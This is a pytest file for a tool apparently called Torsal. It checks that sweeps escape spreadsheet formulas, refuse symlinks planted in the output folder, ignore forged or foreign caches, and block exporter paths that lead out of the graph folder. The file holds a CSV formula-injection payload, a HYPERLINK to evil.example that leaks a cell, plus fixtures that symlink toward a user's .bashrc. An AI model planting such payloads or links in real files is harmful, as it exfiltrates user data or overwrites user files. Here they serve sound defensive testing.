"""Issue 24 for sweeps: no planted link in ``--out`` is followed, formulas are escaped,
and a cache is used only when this user's Torsal signed it for this graph."""

from __future__ import annotations

import csv
import hashlib
import json
from pathlib import Path

import pytest

from torsal.app.cli import main
from torsal.app.explore.cache import ResultCache, graph_digest
from torsal.app.explore.executors import InlineExecutor
from torsal.app.explore.samplers import grid
from torsal.app.explore.study import open_study
from torsal.app.explore.sweep import CACHE, RESULTS, cell, run_sweep
from torsal.engine.graph import Graph
from torsal.engine.graphfile import write_graph
from torsal.engine.write_path import OutFolder
from torsal.nodes.io.data import ExportCSV
from torsal.nodes.params.panel import Panel
from torsal.nodes.params.sliders import IntegerSlider

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def text_graph(folder: Path, text: str = FORMULA, export: bool = False) -> Path:
    """A slider n and a Panel holding ``text`` (optionally exported by ExportCSV to n.csv)."""
    graph = Graph()
    graph.add_node(IntegerSlider({"min": 0, "max": 3, "value": 1}), "n")
    graph.add_node(Panel({"text": text}), "note")
    if export:
        graph.add_node(ExportCSV(), "export")
        graph.connect("n", "Value", "export", "Data")
        graph.set_input_value("export", "Path", "n.csv")
        graph.set_input_value("export", "Write", True)
    write_graph(graph, folder / "g.graph")
    return folder / "g.graph"


@pytest.fixture
def victim(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    bashrc = outside / ".bashrc"
    bashrc.write_text("# the user's own start-up file\n")
    return bashrc


def test_formula_like_text_is_escaped_and_numbers_are_not():
    for text in ("=1+1", "+1", "-cmd", "@SUM(A1)", "\tx", "\rx"):
        assert cell(text) == "'" + text
    assert cell(-1.5) == "-1.5" and cell(-3) == "-3" and cell("plain") == "plain"


def test_collected_text_lands_escaped_in_results_csv(tmp_path):
    study = open_study(text_graph(tmp_path), ["n=0:1:2"], ["note.Output"], steps=True)
    run_sweep(study, grid(study.variables), InlineExecutor(), tmp_path / "out")
    with (tmp_path / "out" / RESULTS).open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert [row[1] for row in rows[1:]] == ["'" + FORMULA] * 2


@pytest.mark.parametrize("planted", [RESULTS, CACHE, "images/00000.png", "variants"])
def test_a_link_planted_in_out_is_never_written_through(tmp_path, victim, planted):
    study = open_study(text_graph(tmp_path, "ok", export=True), ["n=0:1:2"], ["n.Value"], steps=True)
    out = tmp_path / "out"
    link = out / planted
    link.parent.mkdir(parents=True)
    link.symlink_to(victim.parent if planted == "variants" else victim,
                    target_is_directory=planted == "variants")
    watched = {p: digest(p) for p in victim.parent.iterdir()}
    try:
        run_sweep(study, grid(study.variables), InlineExecutor(), out, images=True, allow_writes=True)
    except OSError as exc:
        assert "symbolic link" in str(exc)
    assert {p: digest(p) for p in victim.parent.iterdir()} == watched
    assert link.is_symlink()


def test_sweep_out_that_is_a_link_exits_2(tmp_path, victim, capsys):
    graph = text_graph(tmp_path, "ok")
    (tmp_path / "out").symlink_to(victim.parent, target_is_directory=True)
    code = main(["sweep", str(graph), "--vary", "n=0:1:2", "--collect", "n.Value", "--out",
                 str(tmp_path / "out"), "--workers", "1"])
    err = capsys.readouterr().err
    assert code == 2 and "symbolic link" in err and "Traceback" not in err


def test_a_planted_cache_is_ignored_with_a_note_and_its_rows_solved_again(tmp_path):
    graph = text_graph(tmp_path, "ok")
    study = open_study(graph, ["n=0:1:2"], ["n.Value"], steps=True)
    first = run_sweep(study, grid(study.variables), InlineExecutor(), tmp_path / "out")
    assert first.solved == 2 and not first.notes
    cache = tmp_path / "out" / CACHE
    lines = [json.loads(line) for line in cache.read_text().splitlines()]
    forged = []
    for line in lines:  # the same keys, a forged outcome, the signature of the real one
        line["outcome"]["outputs"] = {"n.Value": 1e9}
        forged.append(json.dumps(line))
    cache.write_text("\n".join(forged) + "\n" + json.dumps({"key": lines[0]["key"], "outcome": {}}) + "\n")
    again = run_sweep(study, grid(study.variables), InlineExecutor(), tmp_path / "out")
    assert again.solved == 2 and again.cached == 0
    assert "2 line(s) of cache.jsonl were not signed" in again.notes[0]
    assert [o.outputs["n.Value"] for o in again.outcomes] == [0, 1]
    resumed = run_sweep(study, grid(study.variables), InlineExecutor(), tmp_path / "out")
    assert resumed.cached == 2  # what this run signed is used next time


def test_a_cache_of_another_graph_is_not_trusted(tmp_path):
    out = OutFolder.resolve(tmp_path / "out")
    mine = ResultCache(out, CACHE, graph_digest("graph A"))
    mine.put("k", {"values": {}, "outputs": {}, "status": "ok"})
    mine.close()
    assert ResultCache(out, CACHE, graph_digest("graph A")).get("k") is not None
    other = ResultCache(out, CACHE, graph_digest("graph B"))
    assert other.get("k") is None and other.ignored == 1


@pytest.mark.parametrize("planted", [RESULTS, CACHE])
def test_sweep_with_a_link_planted_in_out_exits_2_with_one_line(tmp_path, victim, capsys, planted):
    graph = text_graph(tmp_path, "ok")
    out = tmp_path / "out"
    out.mkdir()
    (out / planted).symlink_to(victim)
    before = digest(victim)
    code = main(["sweep", str(graph), "--vary", "n=0:1:2", "--collect", "n.Value", "--out", str(out),
                 "--workers", "1"])
    err = capsys.readouterr().err
    assert code == 2 and f"{planted} is a symbolic link" in err and "Traceback" not in err
    assert digest(victim) == before


@pytest.mark.parametrize("path, state", [("n.csv", "ok (warnings in 1 node)"), ("../../x.csv", "error")])
def test_a_sweep_reports_exporters_consent_as_run_does(tmp_path, path, state):
    """Without --allow-writes an exporter warns that nothing was written (as ``run`` does);
    a path leading out is an error naming why, not "save it first"."""
    graph = Graph()
    graph.add_node(IntegerSlider({"min": 0, "max": 3, "value": 1}), "n")
    graph.add_node(ExportCSV(), "export")
    graph.connect("n", "Value", "export", "Data")
    graph.set_input_value("export", "Path", path)
    graph.set_input_value("export", "Write", True)
    write_graph(graph, tmp_path / "g.graph")
    study = open_study(tmp_path / "g.graph", ["n=0:1:2"], ["n.Value"], steps=True)
    result = run_sweep(study, grid(study.variables), InlineExecutor(), tmp_path / "out")
    for outcome in result.outcomes:
        assert outcome.status.startswith(state)
        assert "save it first" not in outcome.status
    if state == "error":
        assert "leads out of the graph's folder" in result.outcomes[0].status
    assert not [p for p in tmp_path.rglob("*.csv") if p.name in ("n.csv", "x.csv")]
